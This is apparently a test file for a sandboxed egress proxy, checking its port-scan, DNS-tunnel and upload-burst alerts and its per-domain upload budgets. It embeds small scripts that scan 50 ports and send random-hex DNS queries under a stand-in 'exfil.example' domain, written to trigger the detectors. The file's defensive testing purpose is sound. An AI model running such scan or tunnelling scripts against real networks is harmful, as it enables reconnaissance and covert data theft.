"""Live alerts and data budgets (issue 19, parts 1 and 2), end to end from inside a sandbox made by
sluice-netsetup, with its own sluice-proxy (DNS included, --metrics on).

What an attacker does, with real clients: a scan of 50 ports, a burst of 200
encoded-looking names under an unlisted domain, a 20 MiB upload to an allowed
name. Each gives exactly the one alert of its kind (the records, the metric),
with evidence that names the flows; what a normal dependency download does
gives none. The detectors' thresholds and memory bound are unit-tested in
tests/unit/test_alerts.c on a test clock.
"""

import json
import time

import pytest

from testworld import ADDR, wait_for
from test_limits import scrape
from test_netsetup import DNS_PORT, PROXY_PORT, Netsetup
from test_proxy import Proxy, check_log

METRICS_PORT = 9477

POLICY = """\
version: 1
egress:
  - domain: www.example.test
{www}  - domain: plain.example.test
    ports: [80]
destinations:
  allow_ranges: [203.0.113.0/24, 2001:db8::/32]
dns:
  queries_per_second: 0
timeouts:
  sniff: 500ms
limits:
  max_connections: 0
  new_connections_per_second: 0
  upload_bytes_per_second: 0
  download_bytes_per_second: 0
{alerts}
"""


@pytest.fixture(scope="module")
def nsa(world, sluice_bin, tmp_path_factory):
    ns = Netsetup(world, sluice_bin("sluice-netsetup"), tmp_path_factory.mktemp("al") / "run")
    try:
        yield ns
    finally:
        ns.cleanup()


@pytest.fixture
def aproxy(world, sluice_bin, nsa, tmp_path):
    """Factory: aproxy(alerts_yaml, www=rule keys) -> (sandbox, proxy), a fresh sandbox
    each, the proxy with --metrics and --control."""
    made = []

    def start(alerts="", www=""):
        sb = nsa.up()
        d = tmp_path / f"px{len(made)}"
        metrics = f"127.0.0.{40 + len(made)}:{METRICS_PORT}"
        px = Proxy(world, sluice_bin, sb, d, policy=POLICY.format(alerts=alerts, www=www),
                   listen=[f"{sb.gw}:{PROXY_PORT}"],
                   args=("--dns-listen", f"{sb.gw}:{DNS_PORT}", "--metrics", metrics,
                         "--control", str(d / "control.sock")))
        px.metrics_url = f"http://{metrics}/metrics"
        px.control = d / "control.sock"
        made.append((sb, px))
        return sb, px

    yield start
    for sb, px in made:
        if px.proc.alive():
            px.proc.stop()
        check_log(px)
        nsa.down(sb.name)


def alerts_of(world, px):
    alerts = px.records(event="alert")
    m = scrape(world, px)
    counted = {k[1][1]: v for k, v in m.items() if k[0] == "sluice_alerts_total"}
    assert sorted(counted) == ["denied_burst", "dns_tunnel", "port_scan", "upload_burst"]
    assert counted == {k: sum(a["kind"] == k for a in alerts) for k in counted}, counted
    return alerts


SCAN = r"""
import socket, sys, time
socks = []
for port in range(1, 51):
    s = socket.socket()
    s.settimeout(2)
    s.connect((sys.argv[1], port))      # TPROXY accepts every SYN: the proxy decides
    socks.append(s)
time.sleep(1.5)                         # past the 500 ms sniff: each one denied
for s in socks:
    s.close()
"""


def test_a_scan_of_50_ports_is_one_port_scan_alert(world, aproxy, capture):
    sb, px = aproxy()
    r = world.run(sb.name, ["python3", "-c", SCAN, "203.0.113.99"], timeout=20)
    assert r.returncode == 0, r.stderr
    denied = px.wait_record(event="deny", orig_dst="203.0.113.99:50")
    assert denied["reason"] == "sniff_timeout"
    alerts = alerts_of(world, px)
    assert [a["kind"] for a in alerts] == ["port_scan"], alerts
    a = alerts[0]
    assert (a["count"], a["threshold"], a["window_ms"]) == (20, 20, 10000)
    assert len(a["samples"]) == 8 and all(s.startswith("203.0.113.99:") for s in a["samples"])
    # the flows it names are the denied flows, with those destinations
    flows = {d["flow"]: d["orig_dst"] for d in px.records(event="deny")}
    assert [flows[f] for f in a["flows"]] == a["samples"]
    assert world.capture_records() == []


TUNNEL = r"""
import binascii, os, sys
import dns.message, dns.query, dns.rcode
server, n = sys.argv[1], int(sys.argv[2])
codes = []
for i in range(n):
    label = binascii.hexlify(os.urandom(20)).decode()       # 40 hex digits of "data"
    q = dns.message.make_query(f"{label}.c{i % 7}.exfil.example", "A", use_edns=0)
    codes.append(dns.rcode.to_text(dns.query.udp(q, server, port=53, timeout=2).rcode()))
print(",".join(sorted(set(codes))))
"""


def test_a_burst_of_encoded_names_is_one_dns_tunnel_alert(world, aproxy):
    sb, px = aproxy()
    r = world.run(sb.name, ["/usr/bin/python3", "-c", TUNNEL, sb.gw, "200"], timeout=30)
    assert r.returncode == 0 and r.stdout.strip() == "NXDOMAIN", (r.stdout, r.stderr)
    alerts = alerts_of(world, px)
    assert [a["kind"] for a in alerts] == ["dns_tunnel"], alerts
    a = alerts[0]
    assert a["subject"] == "exfil.example"
    assert a["why"] == "encoded" and a["count"] == a["threshold"] == 5
    assert len(a["samples"]) == 5 and all(s.endswith(".exfil.example") for s in a["samples"])
    # denied names never reach a real resolver: the tunnel carried nothing out
    assert not [q for q in world.dns_queries() if "exfil" in q["qname"]]


def test_a_20_mib_upload_is_one_upload_burst_alert(world, aproxy, tmp_path):
    sb, px = aproxy("alerts:\n  upload_burst: {bytes: 8MiB, window: 60s}\n")
    body = tmp_path / "20m.up"
    body.write_bytes(b"u" * (20 << 20))
    r = world.run(sb.name, ["curl", "-sS", "--max-time", "30", "--cacert",
                            str(world.ca_cert), "-T", str(body), "-o", "/dev/null", "-w",
                            "%{http_code}", "https://www.example.test/uploads/burst.bin"],
                  timeout=40)
    assert r.stdout in ("201", "204"), (r.stdout, r.stderr)
    (world.tmp / "www" / "uploads" / "burst.bin").unlink(missing_ok=True)
    start = px.wait_record(event="flow_start", host="www.example.test")
    alerts = alerts_of(world, px)
    assert [a["kind"] for a in alerts] == ["upload_burst"], alerts
    a = alerts[0]
    assert a["subject"] == "www.example.test" and a["flows"] == [start["flow"]]
    # the bytes test or the ratio test, whichever came first; once per window either way
    assert a["why"] in ("bytes", "ratio"), a
    if a["why"] == "bytes":
        assert a["count"] > 8 << 20 and a["threshold"] == 8 << 20


def test_a_dependency_download_fires_nothing(world, aproxy):
    """pip download's shape: an index page, the files it lists, a telemetry name the
    policy does not allow, resolved and refused a few times, one refused connection."""
    sb, px = aproxy()
    get = ["curl", "-sS", "--max-time", "10", "--cacert", str(world.ca_cert), "-w",
           "%{http_code} "]
    urls = ["https://www.example.test/"] + \
           [f"https://www.example.test/files/{n}.bin" for n in ("1m", "8m") * 5]
    r = world.run(sb.name, [*get, *(a for u in urls for a in ("-o", "/dev/null", u))],
                  timeout=60)
    assert r.stdout.split() == ["200"] * 11, (r.stdout, r.stderr)
    for _ in range(3):
        world.run(sb.name, ["dig", "+short", "+tries=1", "+time=2", "telemetry.example.test"])
    world.run(sb.name, ["curl", "-sS", "--max-time", "5", "--resolve",
                        f"telemetry.example.test:443:{ADDR.WWW4}",
                        "https://telemetry.example.test/"])
    px.wait_record(event="deny", host="telemetry.example.test")
    assert alerts_of(world, px) == []


def test_detectors_off(world, aproxy):
    sb, px = aproxy("alerts: false\n")
    r = world.run(sb.name, ["python3", "-c", SCAN, "203.0.113.99"], timeout=20)
    assert r.returncode == 0, r.stderr
    px.wait_record(event="deny", orig_dst="203.0.113.99:50")
    assert alerts_of(world, px) == []
    assert len(px.records(event="deny")) == 50


# ------------------------------------------------------------------ budgets

SINK = "sink.example.test"      # the capture server by name: it counts what it receives


@pytest.fixture
def sink(world):
    world.dns_add(SINK, "A", ADDR.CAPTURE4)
    world.capture_reset()
    try:
        yield SINK
    finally:
        world.dns_remove(SINK)


def get(world, sb, url):
    r = world.run(sb.name, ["curl", "-sS", "--max-time", "5", "-o", "/dev/null", "-w",
                            "%{http_code}", "--cacert", str(world.ca_cert), url], timeout=15)
    return r.stdout


def test_a_5_mib_budget_stops_a_20_mib_upload_and_then_the_name(world, aproxy, sluice_bin,
                                                                  sink, tmp_path):
    sb, px = aproxy(www=f"  - domain: {SINK}\n    ports: [80]\n"
                        "    budget: {upload: 5MiB, per: 1h}\n")
    body = tmp_path / "20m.up"
    body.write_bytes(b"u" * (20 << 20))
    uploader = world.spawn(sb.name, ["curl", "-sS", "--max-time", "60", "-T", str(body),
                                     f"http://{SINK}/up"])
    try:
        budget_then_name(world, sb, px, sluice_bin, uploader)
    finally:
        uploader.stop()


def received(world):
    """Bytes the capture server counted on port 80, per connection it saw open."""
    return [c["bytes"] for c in world.capture_records() if c["local_port"] == 80]


def budget_then_name(world, sb, px, sluice_bin, uploader):
    held = px.wait_record(event="limit", limit="budget", timeout=15)
    assert held["reason"] == "budget_exceeded" and held["host"] == SINK
    assert uploader.alive()                     # held, not refused
    # what reached the server: the budget (the request head counts too), within 10 %
    time.sleep(0.5)
    got = received(world)
    assert len(got) == 1 and abs(got[0] - (5 << 20)) <= (5 << 20) // 10, got
    # the next flow to the name is denied; other names are not
    assert get(world, sb, f"http://{SINK}/") == "403"
    deny = px.wait_record(event="deny", host=SINK)
    assert deny["reason"] == "budget_exceeded"
    assert get(world, sb, "https://www.example.test/") == "200"
    # stats: spent and left
    ctl = [sluice_bin("sluicectl"), "--control", str(px.control), "stats", "--json"]
    stats = json.loads(world.run(world.host, ctl, nsenter=True).stdout)
    b = stats["budgets"][SINK]
    assert b["upload_left"] == 0 and b["upload_spent"] == 5 << 20, b
    assert 3500 < b["window_left_s"] <= 3600
    m = scrape(world, px)
    assert m[("sluice_flows_total", ("proto", "http"), ("reason", "budget_exceeded"),
              ("verdict", "deny"))] == 1
    # a reload that leaves the rule as it was keeps the budget spent
    px.policy.write_text(px.policy.read_text() + "# touched\n")
    px.wait_record(event="reload", verdict="allow")
    assert get(world, sb, f"http://{SINK}/") == "403"
    assert alerts_of(world, px) == []           # 5 MiB is no upload burst
    # a reload that raises the budget: the window's 5 MiB still count, the held upload
    # goes on to the new 10 MiB and is held there again
    px.policy.write_text(px.policy.read_text().replace("upload: 5MiB", "upload: 10MiB"))
    wait_for(lambda: len(px.records(event="reload", verdict="allow")) == 2, 5.0, what="reload")
    wait_for(lambda: [n for n in received(world) if n > 9 << 20], 10.0,
             what="the held upload going on")
    time.sleep(0.5)
    got = received(world)
    assert len(got) == 1 and abs(got[0] - (10 << 20)) <= (10 << 20) // 10, got
    assert uploader.alive()
    assert get(world, sb, f"http://{SINK}/") == "403"
    # 10 MiB up and nothing down on one flow: upload_burst's ratio test, once
    alerts = alerts_of(world, px)
    assert [(a["kind"], a["why"], a["flows"]) for a in alerts] == [
        ("upload_burst", "ratio", [held["flow"]])], alerts
